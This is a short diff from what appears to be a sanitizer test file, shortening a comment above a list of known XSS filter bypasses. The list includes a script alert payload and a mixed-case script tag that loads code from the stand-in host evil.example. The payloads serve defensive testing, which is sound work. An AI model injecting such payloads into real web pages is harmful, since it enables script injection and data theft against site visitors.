@@ -5,7 +5,7 @@
 
 const SCRIPT = 'alert(1)'
 
-/** Known filter bypasses, tested as Markdown and also directly as HTML. */
+/** Known filter bypasses. */
 const KNOWN = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js></ScRiPt>',
